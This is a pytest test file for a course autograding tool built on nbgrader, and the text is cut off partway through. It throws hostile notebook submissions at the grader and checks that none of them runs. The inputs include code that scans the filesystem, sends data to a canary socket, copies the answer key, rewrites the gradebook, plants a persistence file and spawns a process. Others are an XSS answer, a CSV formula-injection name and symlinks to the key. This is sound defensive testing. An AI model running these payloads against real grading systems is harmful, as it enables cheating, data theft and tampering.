"""Hostile and broken submissions in one batch, through the instructor CLI (slow).

Every attack of issue 15 is built from the real released quiz. Grading executes no student
code, so each attack earns exactly what its plain literal answers earn, or its item is
flagged for a person; nothing leaks (feedback, exchange, files, network), nothing outside the
attacker's own submission changes, no process is left, and the instructor is told.
"""

from __future__ import annotations

import copy
import csv
import html
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import threading

import nbformat
import pytest
from quiz_helpers import (
    QUIZ_ROOT,
    as_student,
    cell_by_id,
    clean_env,
    grades,
    hidden_regions,
    key_answers,
    make_course,
    nbgrader,
    read_nb,
    submit_file,
    with_answers,
)

from tests.conftest import serious_axe_violations
from venous_course_tools.instructor import collect as course_collect
from venous_course_tools.instructor import integrity, workflow

pytestmark = pytest.mark.slow
QUIZ = "quiz-01-understanding"
FULL_AUTO = 15.5  # every autograded item of quiz 01 (the teach-back adds 2 by hand)
POINTS = {"q1": 1, "q2": 1, "q3": 2, "q4": 2.5, "q5": 2, "q6": 2, "q7": 2, "q8": 1, "q9": 2}

PARTIAL = {  # expected score per item in the comment
    "q1": 'q1 = "C"',  # 1
    "q2": 'q2 = "A"',  # 0
    "q3": 'q3 = "c4b s, ep as pr"',  # 2 (same code, other spelling)
    "q4": 'q4 = {1: "P", 2: "P", 3: "P", 4: "N", 5: "N"}',  # 4 of 5 rows: 2.0 of 2.5
    "q5": 'q5 = {"F", "B", "D"}',  # 2 right - 1 wrong = 1 of 4: 0.5 of 2
    "q6": "q6 = 13",  # 2
    "q7": "q7 = round(104 / 144, 2)",  # arithmetic is read, not run: 0.72, 2
    "q8": 'q8 = "D"',  # 0
    "q9": 'q9 = {"E", "C", "A", "B"}',  # 3 right - 1 wrong = 2 of 4: 1.0 of 2
}
PARTIAL_SCORE = 1 + 0 + 2 + 2.0 + 0.5 + 2 + 2 + 0 + 1.0


#: The other hostile students of the batch, all on the roster (a folder off the roster is
#: never graded, so each attack must come from a real student to reach the grader).
ON_ROSTER = [
    "xss",
    "deleted",
    "setupcell",
    "asserttrue",
    "stripped",
    "badjson",
    "copiedkey",
    "missing",
    "linkdir",
    "linkfile",
    "huge",
    "eve",
]


def _attacks(canary: dict[str, str]) -> dict[str, tuple[dict[str, str], list[str], set[str]]]:
    """student -> (answer cells to replace, extra cells appended, items that must be flagged).

    Every attack's code, if it ever ran, would leave a trace the tests look for: a file, a
    connection to the canary port, a changed gradebook or config.
    """
    port, trace = canary["port"], canary["trace"]
    steal = (
        "import glob, socket, shutil, sqlite3\n"
        f"open({trace!r} + '-steal', 'w').write(str(glob.glob('../../../**', recursive=True)))\n"
        f"socket.create_connection(('127.0.0.1', {port})).sendall(b'secrets')\n"
        "shutil.copy('../../../source/quiz-01-understanding/quiz-01-understanding.ipynb', "
        "'../../../exchange/venous-course/outbound/quiz-01-understanding/key.ipynb')\n"
    )
    gradebook = (
        "from nbgrader.api import Gradebook\n"
        "with Gradebook('sqlite:///../../../gradebook.db') as gb:\n"
        "    for g in gb.find_submission('quiz-01-understanding', 'partial').grades:\n"
        "        g.manual_score = 0\n"
        "    for c in gb.find_notebook('quiz-01-understanding', "
        "'quiz-01-understanding').source_cells:\n"
        "        c.source = 'assert False'\n"
        "    gb.db.commit()\n"
        f"open({trace!r} + '-gradebook', 'w').write('x')\n"
    )
    persist = (
        "import os, subprocess, sys\n"
        f"open({trace!r} + '-startup.py', 'w').write('print(1)')\n"
        "open('../../../nbgrader_config.py', 'a').write('\\nc.Autograde.x = 1\\n')\n"
        f"open({trace!r} + '-evil.pth', 'w').write('import os')\n"
        "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)'],"
        " start_new_session=True)\n"
        f"open({trace!r} + '-persist', 'w').write('x')\n"
    )
    return {
        # five lines that turn every later test cell into `pass`, and no answer given
        "transformer": (
            {
                "q1": "ip = get_ipython()\n"
                "ip.input_transformers_post.append(lambda lines: ['pass\\n'])\n"
                f"open({trace!r} + '-transformer', 'w').write('x')\n"
                "q1 = None"
            },
            [],
            {"q1-answer"},
        ),
        # redefined builtins, a str that equals everything, re patched through sys.modules
        "builtins": (
            {
                "q1": "class S(str):\n    __eq__ = lambda self, other: True\nq1 = S('A')",
                "q4": 'min = lambda *a: 2.5\nq4 = {1: "N", 2: "P", 3: "N", 4: "P", 5: "P"}',
                "q3": "import sys\nsys.modules['re'].sub = lambda *a: 'c4bsepaspr'\nq3 = 'C1'",
                "q8": 'q8 = "A"',  # the one honest answer: 1 point
            },
            ["abs = lambda x: 0\nq7 = 5.0"],
            {"q1-answer", "q4-answer", "q3-answer"},
        ),
        "gradebook": ({"q2": gradebook + 'q2 = "D"'}, [gradebook], {"q2-answer"}),
        "exfiltrate": ({"q5": steal + 'q5 = {"F"}'}, [steal], {"q5-answer"}),
        "persist": ({"q6": persist + "q6 = 13"}, [persist], {"q6-answer"}),
        # a fake result line on fd 1, as the old worker protocol read it
        "fakeline": (
            {
                "q9": 'print(\'@@autograde-result {"student": "partial", "success": false}\')\n'
                'q9 = {"A"}'
            },
            [],
            {"q9-answer"},
        ),
        # the old loop / flood / raise cases: never run, so only their item is flagged
        "loop": ({"q1": "while True:\n    pass"}, [], {"q1-answer"}),
        "sigint": (
            {
                "q1": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                "while True:\n    pass"
            },
            [],
            {"q1-answer"},
        ),
        "huge_raises": (
            {"q1": 'print("x" * 1_000_000)\nq1 = "C"', "q3": 'raise RuntimeError("boom")'},
            ["print('x' * 10_000_000)"],
            {"q1-answer", "q3-answer"},
        ),
    }


def _canary_server():
    """A TCP listener on 127.0.0.1 that counts connections (none may arrive)."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    hits: list[bytes] = []
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            hits.append(conn.recv(100))
            conn.close()

    threading.Thread(target=serve, daemon=True).start()
    return server, hits, stop


def cli(course, *args, ok=True, env=None):
    proc = subprocess.run(
        [sys.executable, "-m", "venous_course_tools.instructor", "--course-dir", str(course)]
        + list(args),
        text=True,
        capture_output=True,
        timeout=600,
        env=env,
    )
    if ok:
        assert proc.returncode == 0, proc.stdout + proc.stderr
    return proc


def released_course(tmp, roster_rows: str):
    """Quiz 01 in a new course under ``tmp`` with the roster rows imported and released:
    (course, blank release, source notebook, release with the model answers typed in)."""
    course = make_course(tmp, [QUIZ])
    roster = tmp / "roster.csv"
    roster.write_text("id,first_name,last_name,email\n" + roster_rows)
    cli(course, "students", str(roster))
    cli(course, "release", QUIZ, "--no-exchange")
    blank = read_nb(course / "release" / QUIZ / f"{QUIZ}.ipynb")
    source_nb = read_nb(course / "source" / QUIZ / f"{QUIZ}.ipynb")
    return course, blank, source_nb, with_answers(blank, key_answers(source_nb))


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    import psutil

    with pytest.MonkeyPatch.context() as mp:
        clean_env(mp)
        tmp = tmp_path_factory.mktemp("hostile")
        exchange = tmp / "exchange"
        (exchange / "venous-course" / "outbound" / QUIZ).mkdir(parents=True)
        mp.setenv("VENOUS_EXCHANGE_ROOT", str(exchange))
        server, hits, stop = _canary_server()
        canary = {"port": str(server.getsockname()[1]), "trace": str(tmp / "trace")}
        attacks = _attacks(canary)
        course, blank, source_nb, key = released_course(
            tmp,
            'good,"=HYPERLINK(""http://x.example/""&A1)",Good,g@example.org\n'
            "partial,+Part,@ial,p@example.org\n"
            + "".join(f"{s},S,{s},{s}@example.org\n" for s in sorted(attacks) + ON_ROSTER),
        )
        good = copy.deepcopy(key)
        cell_by_id(good, "q10-teachback").source = "A high reading can mean stiff arteries ..."
        submit_file(course, "good", QUIZ, good)
        submit_file(course, "partial", QUIZ, with_answers(blank, PARTIAL))
        for student, (answers, extra, _flagged) in attacks.items():
            nb = with_answers(blank, answers)
            nb.cells += [nbformat.v4.new_code_cell(code) for code in extra]
            submit_file(course, student, QUIZ, nb)
        xss = copy.deepcopy(key)
        cell_by_id(
            xss, "q10-teachback"
        ).source = (
            '<script>alert("x")</script><img src=x onerror=alert(1)> [a](javascript:alert(2))'
        )
        submit_file(course, "xss", QUIZ, xss)
        deleted = copy.deepcopy(key)
        deleted.cells.remove(cell_by_id(deleted, "q2-test"))
        submit_file(course, "deleted", QUIZ, deleted)
        # the quiz's set-up cell (form checks in words) rewritten to change answers or checks
        setup = copy.deepcopy(key)
        cell_by_id(setup, "form-checks").source = (
            "get_ipython().set_custom_exc((Exception,), lambda *a: None)\n"
            f"open({canary['trace']!r} + '-setup', 'w').write('x')\nq1 = 'A'\nq5 = {{'A'}}"
        )
        submit_file(course, "setupcell", QUIZ, setup)
        cheat = copy.deepcopy(blank)
        for cell in cheat.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id", "").endswith("-test"):
                cell.source = "assert True"
        cell_by_id(cheat, "q1-test").metadata["nbgrader"]["points"] = 100
        submit_file(course, "asserttrue", QUIZ, with_answers(cheat, {"q1": 'q1 = "A"'}))
        stripped = copy.deepcopy(key)
        for cell in stripped.cells:
            cell.metadata.pop("nbgrader", None)
        submit_file(course, "stripped", QUIZ, stripped)
        submit_file(course, "badjson", QUIZ, nbformat.writes(key)[:-200] + "{{{ not json")
        submit_file(course, "copiedkey", QUIZ, source_nb)  # what a followed symlink delivers
        (course / "submitted" / "missing" / QUIZ).mkdir(parents=True)
        (course / "submitted" / "missing" / QUIZ / "notes.txt").write_text("forgot it")
        # file system attacks: links to the answer key, a huge file, a newline in a name
        (course / "submitted" / "linkdir").mkdir()
        (course / "submitted" / "linkdir" / QUIZ).symlink_to(course / "source" / QUIZ)
        (course / "submitted" / "linkfile" / QUIZ).mkdir(parents=True)
        (course / "submitted" / "linkfile" / QUIZ / f"{QUIZ}.ipynb").symlink_to(
            course / "source" / QUIZ / f"{QUIZ}.ipynb"
        )
        huge = copy.deepcopy(key)
        huge.cells.append(nbformat.v4.new_markdown_cell("x" * 6_000_000))
        submit_file(course, "huge", QUIZ, huge)
        submit_file(course, "eve\ngood", QUIZ, with_answers(blank, {"q1": 'q1 = "A"'}))

        before_children = {p.pid for p in psutil.Process().children(recursive=True)}
        stored_before = integrity.fingerprint(course, QUIZ, workflow._db_url(course))
        out = cli(course, "autograde", QUIZ)
        cli(course, "feedback", QUIZ)
        stop.set()
        server.close()
        after_children = {p.pid for p in psutil.Process().children(recursive=True)}
        rows = workflow.read_report(workflow.report_paths(course, QUIZ)[0])
        yield {
            "course": course,
            "rows": rows,
            "out": out.stdout + out.stderr,
            "attacks": attacks,
            "canary": canary,
            "hits": hits,
            "tmp": tmp,
            "exchange": exchange,
            "new_processes": after_children - before_children,
            "stored_before": stored_before,
            "source_nb": source_nb,
        }


def auto_score(course, student):
    return sum(v or 0 for k, v in grades(course, QUIZ, student).items() if k.endswith("-test"))


def needs_manual(course, student) -> dict[str, bool]:
    from nbgrader.api import Gradebook

    with Gradebook("sqlite:///" + str(course / "gradebook.db")) as gb:
        sub = gb.find_submission_notebook(QUIZ, QUIZ, student)
        return {g.name: bool(g.needs_manual_grade) for g in sub.grades}


def test_every_submission_is_reported(batch):
    rows, out = batch["rows"], batch["out"]
    expected = {"good", "partial", "xss", "deleted", "asserttrue", "stripped", "badjson"}
    expected |= {"setupcell"}
    expected |= {"copiedkey", "missing", "linkdir", "linkfile", "huge"} | set(batch["attacks"])
    assert set(rows) == expected
    assert f"[{len(expected)}/{len(expected)}]" in out
    report = (batch["course"] / "reports" / f"{QUIZ}-autograde.md").read_text()
    assert "need attention" in report
    # the folder whose name holds a newline is one refused folder, never two students
    assert "eve\\\\x0agood" in out and "not a valid student id" in report
    assert "eve" not in rows


def test_honest_students_get_exact_scores(batch):
    course, rows = batch["course"], batch["rows"]
    assert rows["good"].status == "needs manual grading" and rows["good"].reason == ""
    assert rows["good"].notes == ["q10-teachback: hand-graded item, waiting for a person"]
    assert auto_score(course, "good") == FULL_AUTO
    assert rows["partial"].status == "graded"  # an empty teach-back scores 0 by itself
    assert auto_score(course, "partial") == pytest.approx(PARTIAL_SCORE)
    # the report carries each submission's score and the maximum
    assert (rows["partial"].score, rows["partial"].max_score) == (f"{PARTIAL_SCORE:g}", "17.5")
    assert rows["badjson"].score == ""  # a failure has no score, never a 0


@pytest.mark.parametrize(
    "student",
    [
        "transformer",
        "builtins",
        "gradebook",
        "exfiltrate",
        "persist",
        "fakeline",
        "loop",
        "sigint",
        "huge_raises",
    ],
)
def test_attack_earns_only_its_literal_answers_and_is_flagged(batch, student):
    course, rows = batch["course"], batch["rows"]
    answers, _extra, flagged = batch["attacks"][student]
    given = grades(course, QUIZ, student)
    # the literal-only score: an honest answer scores, a flagged or missing one scores 0
    honest = {"builtins": {"q8": 1}}.get(student, {})
    expected = {f"{q}-test": float(honest.get(q, 0)) for q in POINTS}
    assert {k: v for k, v in given.items() if k.endswith("-test")} == expected
    row = rows[student]
    assert row.status == "needs manual grading" and row.reason.startswith("review: ")
    noted = {n.split(":")[0] for n in row.notes}
    assert noted == flagged
    manual = needs_manual(course, student)
    for item in flagged:
        assert manual[item.replace("-answer", "-test")], item


def test_nothing_ran_nothing_leaked_nothing_persisted(batch):
    tmp, course = batch["tmp"], batch["course"]
    traces = sorted(p.name for p in tmp.iterdir() if p.name.startswith("trace"))
    assert traces == []  # no attack wrote its trace file
    assert batch["hits"] == []  # no connection reached 127.0.0.1
    outbound = batch["exchange"] / "venous-course" / "outbound" / QUIZ
    assert list(outbound.iterdir()) == []
    assert batch["new_processes"] == set()
    # gradebook test cells, config and source are what was released
    assert integrity.differences(course, QUIZ, workflow._db_url(course)) == []
    now = integrity.fingerprint(course, QUIZ, workflow._db_url(course))
    assert now == batch["stored_before"]
    assert "c.Autograde.x" not in (course / "nbgrader_config.py").read_text()


def test_feedback_carries_no_key_and_no_student_html(batch):
    course, source_nb = batch["course"], batch["source_nb"]
    secrets = [s for s in hidden_regions(source_nb) if len(s) >= 12]
    for page_path in (course / "feedback").rglob("*.html"):
        text = page_path.read_text(encoding="utf-8")
        plain = html.unescape(text)
        assert [s for s in secrets if s in plain] == [], page_path
        assert "@@autograde-result" not in plain or page_path.parts[-3] == "fakeline"
    xss = (course / "feedback" / "xss" / QUIZ / f"{QUIZ}.html").read_text(encoding="utf-8")
    assert "<script>alert" not in xss and "<img src=x" not in xss
    assert 'href="javascript' not in xss
    assert "&lt;script&gt;alert" in xss  # shown to the student as the text they typed


def test_tampered_test_cells_are_restored_and_flagged(batch):
    course, rows = batch["course"], batch["rows"]
    assert rows["deleted"].status == "needs manual grading"
    assert "test cell deleted" in rows["deleted"].reason
    assert auto_score(course, "deleted") == FULL_AUTO  # the restored test graded the answer
    assert rows["asserttrue"].status == "needs manual grading"
    assert "test cell altered" in rows["asserttrue"].reason
    assert any("points 1 -> 100" in n for n in rows["asserttrue"].notes)
    assert auto_score(course, "asserttrue") == 0  # 'assert True' and 100 points earn nothing
    assert rows["copiedkey"].status == "needs manual grading"
    assert auto_score(course, "copiedkey") == 0
    assert any("solution markers" in n for n in rows["copiedkey"].notes)


def test_the_set_up_cell_cannot_change_grading(batch):
    """The locked form-checks cell only changes how the student's own kernel shows errors:
    grading never runs it, restores it from the gradebook and notes it for the instructor."""
    course, rows = batch["course"], batch["rows"]
    assert auto_score(course, "setupcell") == FULL_AUTO  # the answers, not the cell, score
    assert rows["setupcell"].status == "graded"  # its empty teach-back scores 0 by itself
    notes = rows["setupcell"].notes
    assert any("read-only cell altered" in n and "form-checks" in n for n in notes), notes
    graded = read_nb(course / "autograded" / "setupcell" / QUIZ / f"{QUIZ}.ipynb")
    released = read_nb(course / "release" / QUIZ / f"{QUIZ}.ipynb")
    assert cell_by_id(graded, "form-checks").source == cell_by_id(released, "form-checks").source


def test_broken_and_unsafe_files_are_failures_not_zeros(batch):
    rows = batch["rows"]
    assert rows["badjson"].status == "failed" and "invalid notebook" in rows["badjson"].reason
    assert rows["missing"].status == "failed" and "missing notebook" in rows["missing"].reason
    assert rows["huge"].status == "failed" and "MB" in rows["huge"].reason
    for student in ("linkdir", "linkfile"):
        assert rows[student].status == "failed" and "symbolic link" in rows[student].reason
    row = rows["stripped"]
    assert row.status in {"failed", "needs manual grading"}
    assert "metadata stripped" in row.reason


def test_exported_csv_cannot_hold_formulas(batch):
    course = batch["course"]
    cli(course, "export", QUIZ)
    for name in ("nbgrader-grades.csv", f"{QUIZ}-lms.csv"):
        with (course / "grades" / name).open(newline="", encoding="utf-8") as fh:
            cells = [c for row in csv.reader(fh) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@") or c.startswith("-")], name
    with (course / "grades" / "nbgrader-grades.csv").open(newline="") as fh:
        good = next(r for r in csv.DictReader(fh) if r["student_id"] == "good")
    assert good["first_name"].startswith("'=HYPERLINK")


def test_plain_nbgrader_autograde_never_adds_a_student_off_the_roster(batch):
    """Formgrader's button and plain `nbgrader autograde` stop on a folder not on the roster."""
    course = batch["course"]
    planted = course / "submitted" / "intruder" / QUIZ
    shutil.copytree(course / "submitted" / "partial" / QUIZ, planted)
    try:
        proc = nbgrader(
            ["autograde", QUIZ, "--student", "intruder", "--force"], cwd=course, ok=False
        )
        assert proc.returncode != 0
        assert "intruder" not in workflow.roster_ids(course)
        assert not (course / "autograded" / "intruder").exists()
    finally:
        shutil.rmtree(planted.parent)


def test_plain_nbgrader_autograde_takes_the_same_safe_path(batch, tmp_path):
    """`nbgrader autograde` (and formgrader, which calls the same app) scores the same."""
    course = batch["course"]
    for student in ("builtins", "partial"):
        proc = nbgrader(["autograde", QUIZ, "--student", student, "--force"], cwd=course)
        assert "SAWarning" not in proc.stdout + proc.stderr  # the course config keeps it quiet
    assert auto_score(course, "partial") == pytest.approx(PARTIAL_SCORE)
    assert {k: v for k, v in grades(course, QUIZ, "builtins").items() if k.endswith("-test")} == {
        f"{q}-test": float(q == "q8") for q in POINTS
    }
    assert needs_manual(course, "builtins")["q1-test"]
    meta = read_nb(course / "autograded" / "builtins" / QUIZ / f"{QUIZ}.ipynb").metadata
    assert set(meta["venous_course_review"]) >= {"q1-answer", "q3-answer", "q4-answer"}


def test_export_is_refused_when_the_key_changes(batch, tmp_path):
    course = batch["course"]
    cli(course, "export", QUIZ)
    stale = [course / "grades" / "nbgrader-grades.csv", course / "grades" / f"{QUIZ}-lms.csv"]
    assert all(p.is_file() for p in stale)
    path = course / "source" / QUIZ / f"{QUIZ}.ipynb"
    original = path.read_bytes()
    try:
        nb = json.loads(original)
        nb["cells"][0]["source"] = "changed"
        path.write_text(json.dumps(nb))
        proc = cli(course, "export", QUIZ, ok=False)
        assert proc.returncode == 1
        assert "does not match what was released" in proc.stderr
        assert "Traceback" not in proc.stderr
        # the old files are gone, never left in place as if current, and the message says so
        assert not [p for p in stale if p.exists()]
        assert "were removed so that no stale grades are uploaded" in proc.stderr
        assert not list((course / "grades").glob(".*.tmp"))
    finally:
        path.write_bytes(original)
    assert QUIZ_ROOT.exists() and os.path.exists(path)


def test_formgrader_renders_student_html_as_text(batch, monkeypatch):
    """Formgrader builds its HTMLExporter from the course config: the teach-back is escaped."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.apps.nbgraderapp import NbGraderApp
    from nbgrader.server_extensions.formgrader import handlers

    course = batch["course"]
    monkeypatch.chdir(course)
    app = NbGraderApp()
    app.load_config_file()  # what FormgradeExtension.load_config does
    exporter = HTMLExporter(config=app.config)
    exporter.template_name = "formgrade"  # as FormgradeExtension.build_extra_config sets it
    exporter.extra_template_basedirs = [handlers.template_path]
    render = exporter.environment.filters["markdown2html"]
    answer = cell_by_id(
        read_nb(course / "autograded" / "xss" / QUIZ / f"{QUIZ}.ipynb"), "q10-teachback"
    ).source
    shown = render(answer)
    assert "<script>" not in shown and "<img" not in shown and 'href="javascript' not in shown
    assert "&lt;script&gt;" in shown


# ---------------------------------------------------------------------------- feedback (issue 30)

#: A teach-back that quotes every marker the leak check looks for, and a line of a public check.
MARKER_TEACHBACK = (
    "My answer.\n# RATIONALE: the arteries are stiff\n### END HIDDEN TESTS\n### BEGIN SOLUTION\n"
    'assert q1 is not None, "Q1 is still None: set it to one of the letters A, B, C, D, in '
    'quotes."\n<!--/student--> BEGIN RUBRIC'
)


@pytest.fixture(scope="module")
def classroom(tmp_path_factory):
    """One honest student's feedback alone, then with a hostile classmate and a student whose
    page the instructor's own comment makes leak, all through the CLI and the exchange."""
    with pytest.MonkeyPatch.context() as mp:
        clean_env(mp)
        tmp = tmp_path_factory.mktemp("classroom")
        exchange = tmp / "exchange"
        exchange.mkdir()
        mp.setenv("VENOUS_EXCHANGE_ROOT", str(exchange))
        course, blank, source_nb, key = released_course(
            tmp,
            "good,Good,Student,g@example.org\n"
            "hostile,Hostile,Student,h@example.org\n"
            "commented,Commented,Student,c@example.org\n",
        )

        def hand_in(student, nb):
            submit_file(course, student, QUIZ, nb)
            folder = course / "submitted" / student / QUIZ
            (folder / "timestamp.txt").write_text("2026-01-05 10:00:00.000000 UTC")
            (folder / "submission_secret.txt").write_text(f"secret-of-{student}")

        good = copy.deepcopy(key)
        cell_by_id(good, "q10-teachback").source = "A high reading can mean stiff arteries."
        hand_in("good", good)
        cli(course, "autograde", QUIZ)
        cli(course, "feedback", QUIZ)
        page = course / "feedback" / "good" / QUIZ / f"{QUIZ}.html"
        alone = page.read_text(encoding="utf-8")

        hostile = with_answers(
            blank,
            {
                "q1": 'q1 = "C"  # RATIONALE: END HIDDEN TESTS',
                "q2": "q2 = D  # ### BEGIN SOLUTION",
                "q5": '_key = {"B", "C", "E", "F"}\nq5 = {"B"}',
            },
        )
        cell_by_id(hostile, "q10-teachback").source = MARKER_TEACHBACK
        hand_in("hostile", hostile)
        hand_in("commented", with_answers(blank, {"q1": 'q1 = "A"'}))
        cli(course, "autograde", QUIZ, "--student", "hostile", "--student", "commented")
        hidden_line = next(s for s in hidden_regions(source_nb) if s.startswith("_key = {"))
        cli(
            course, "grade", QUIZ, "--student", "commented", "--item", "q10-teachback",
            "--score", "0", "--comment", f"The key was {hidden_line}",
        )  # fmt: skip
        # an autograded folder the gradebook does not know: nbgrader fails on it alone
        shutil.copytree(course / "autograded" / "good", course / "autograded" / "ghost")
        fed = cli(course, "feedback", QUIZ)
        returned = cli(course, "return", QUIZ)
        yield {
            "course": course,
            "alone": alone,
            "page": page,
            "fed": fed,
            "returned": returned,
            "exchange": exchange,
            "hidden_line": hidden_line,
        }


def test_hostile_teachback_no_longer_blocks_feedback_for_the_class(classroom):
    course, fed = classroom["course"], classroom["fed"]
    assert "Feedback for quiz-01-understanding: 2 file(s), checked for leaks." in fed.stdout
    hostile = (course / "feedback" / "hostile" / QUIZ / f"{QUIZ}.html").read_text("utf-8")
    # the student's own text is shown to them, escaped, markers and all
    assert "# RATIONALE: the arteries are stiff" in hostile
    assert "&lt;!--/student--&gt; BEGIN RUBRIC" in hostile
    assert "q2 = D  # ### BEGIN SOLUTION" in hostile
    assert "Traceback" not in fed.stderr


def test_honest_classmate_feedback_and_return_are_unchanged(classroom):
    course = classroom["course"]
    assert classroom["page"].read_text(encoding="utf-8") == classroom["alone"]
    released = classroom["exchange"] / "venous-course" / "feedback"
    from nbgrader.utils import notebook_hash

    good = released / f"{notebook_hash(secret='secret-of-good', notebook_id=QUIZ)}.html"
    assert good.read_text(encoding="utf-8") == classroom["alone"]
    hostile = released / f"{notebook_hash(secret='secret-of-hostile', notebook_id=QUIZ)}.html"
    assert hostile.is_file()
    assert len(list(released.glob("*.html"))) == 2  # never the refused page
    assert "Returned feedback for quiz-01-understanding: 2 file(s)." in classroom["returned"].stdout
    assert (course / "feedback" / "good" / QUIZ / f"{QUIZ}.html").is_file()


def test_a_leaking_page_is_refused_for_that_student_only_and_named(classroom):
    course, hidden_line = classroom["course"], classroom["hidden_line"]
    for step in ("fed", "returned"):
        err = classroom[step].stderr
        assert f"warning: no feedback returned to commented for {QUIZ}: the page would show" in err
        assert hidden_line[:40] in err and "good" not in err and "hostile" not in err
        assert f"no feedback returned to ghost for {QUIZ}: nbgrader could not" in err
    assert not (course / "feedback" / "commented" / QUIZ / f"{QUIZ}.html").exists()
    kept = course / "reports" / f"{QUIZ}-feedback-refused" / "commented" / f"{QUIZ}.html"
    assert hidden_line in html.unescape(kept.read_text(encoding="utf-8"))
    refused = json.loads(workflow.refused_path(course, QUIZ).read_text(encoding="utf-8"))
    assert sorted(refused) == ["commented", "ghost"]
    assert refused["ghost"].startswith("nbgrader could not build the page")


def test_feedback_leak_check_judges_only_course_text():
    """Marker and secret lines in the student's regions pass; the same outside them fail."""
    from venous_course_tools.instructor.feedback_page import student_text

    secret = '_key = {"B", "C", "E", "F"}'
    page = "<p>Rationale text.</p>" + student_text(MARKER_TEACHBACK + "\n" + secret)
    assert workflow.page_leaks(page, [secret]) == []
    assert workflow.page_leaks(page + "<p>END SOLUTION</p>", [secret]) == ["END SOLUTION"]
    assert workflow.page_leaks(page + html.escape(secret), [secret]) == [secret]


@pytest.fixture(scope="module")
def browser():
    """Debian's Chromium through Playwright, or a skip (a failure with REQUIRE_BROWSER=1)."""
    from tests.conftest import chromium_or_skip

    yield from chromium_or_skip()


def _open_returned(browser, path):
    """A returned page opened from its file at 390 px, with every request it makes."""
    context = browser.new_context(viewport={"width": 390, "height": 844})
    page = context.new_page()
    requests, errors = [], []
    page.on("request", lambda r: requests.append(r.url))
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.goto(path.as_uri())
    return context, page, requests, errors


def test_returned_feedback_in_chromium_at_390_px(classroom, browser):
    """Issue 26 point 4 in a real browser: every part per item, readable at 390 px without
    sideways scrolling, printable, nothing loaded from anywhere, no serious axe violation."""
    from nbgrader.utils import notebook_hash

    released = classroom["exchange"] / "venous-course" / "feedback"
    good = released / f"{notebook_hash(secret='secret-of-good', notebook_id=QUIZ)}.html"
    context, page, requests, errors = _open_returned(browser, good)
    try:
        assert [u for u in requests if not u.startswith(("file:", "data:", "about:"))] == []
        assert errors == []
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
        sections = page.locator("section.item")
        assert sections.count() == len(POINTS) + 1  # nine autograded items and the teach-back
        for i in range(sections.count()):
            section = sections.nth(i)
            parts = section.locator("h3").all_inner_texts()
            assert parts[:3] == ["The question", "Your answer", "How it is scored"], parts
            assert "Review" in parts and section.locator("ul.review a").count() >= 1
            href = section.locator("ul.review a").first.get_attribute("href")
            assert re.fullmatch(r"\.\./\.\./\.\./\d\d-[a-z0-9-]+\.ipynb", href), href
            points = section.locator("p.points").inner_text()
            assert re.fullmatch(r"[\d.]+ of [\d.]+ points?|Your instructor .*", points), points
            if i < len(POINTS):
                assert "Rationale" in parts
                assert points.startswith(f"{POINTS[f'q{i + 1}']:g} of "), points
        first = sections.nth(0).inner_text()
        assert "C. Weak vein valves let blood pool in the legs" in first  # the chosen option
        assert "Test cell" not in page.content() and "assert " not in page.content()
        assert serious_axe_violations(page) == []
        page.emulate_media(media="print")
        assert page.locator("nav").evaluate("n => getComputedStyle(n).display") == "none"
        assert len(page.pdf(width="210mm", height="297mm")) > 10_000
    finally:
        context.close()
    hostile = released / f"{notebook_hash(secret='secret-of-hostile', notebook_id=QUIZ)}.html"
    context, page, requests, errors = _open_returned(browser, hostile)
    try:
        written = page.locator("section#q10 .written").inner_text()
        assert "<!--/student--> BEGIN RUBRIC" in written  # shown as the text it is
        assert page.evaluate("document.scripts.length") == 0 and errors == []
    finally:
        context.close()


# ---------------------------------------------------------------------------- issue 30
# A class that submits through the real exchange (nbgrader fetch_assignment / submit), with
# hostile classmates who have shell access to their own exchange folders. Built once.

HONEST = "amy"  # the classmate every attack is measured against
TEACH_BACK = "A low ABPI means less blood reaches the foot, so tight bandaging could harm it."
FUTURE = "2099-01-01 00:00:00.000000 UTC"
ESCAPES = ("\x1b", "\x07", "\x9b", "\u202e")


def _submit(home, exchange, student, nb):
    """Fetch once per home, write the answers, submit with the real nbgrader command."""
    path = home / QUIZ / f"{QUIZ}.ipynb"
    if not path.exists():
        home.mkdir(exist_ok=True)
        as_student(student, home, exchange, "fetch_assignment", QUIZ)
    nbformat.write(nb, path)
    as_student(student, home, exchange, "submit", QUIZ)
    inbound = exchange / "venous-course" / "inbound"
    return max(inbound.glob(f"{student}+{QUIZ}+*"), key=lambda p: p.name)


def _forge(template, name, nb=None, timestamp=None):
    """What a student with a shell can leave in inbound/: a copy of a real submission."""
    folder = template.parent / name
    shutil.copytree(template, folder)
    for path in folder.iterdir():
        path.chmod(0o644)
    if nb is not None:
        nbformat.write(nb, folder / f"{QUIZ}.ipynb")
    if timestamp is not None:
        (folder / "timestamp.txt").write_text(timestamp)
    return folder


def _run(course, *args, env=None):
    """One instructor step that may fail: the tests read its exit code and output."""
    return cli(course, *args, ok=False, env=env)


def _released_class(mp, tmp, roster_ids):
    """A course with quiz 01 released to its own exchange, the roster imported."""
    clean_env(mp)
    exchange = tmp / "exchange"
    exchange.mkdir()
    mp.setenv("VENOUS_EXCHANGE_ROOT", str(exchange))
    course = make_course(tmp, [QUIZ])
    roster = tmp / "roster.csv"
    roster.write_text(
        "id,first_name,last_name,email\n"
        + "".join(f"{s},{s.title()},S,{s}@example.org\n" for s in roster_ids)
    )
    cli(course, "students", str(roster))
    cli(course, "release", QUIZ)
    blank = read_nb(course / "release" / QUIZ / f"{QUIZ}.ipynb")
    key = with_answers(blank, key_answers(read_nb(course / "source" / QUIZ / f"{QUIZ}.ipynb")))
    return exchange, course, blank, key


@pytest.fixture(scope="module")
def exchange_class(tmp_path_factory):
    with pytest.MonkeyPatch.context() as mp:
        tmp = tmp_path_factory.mktemp("exchange-class")
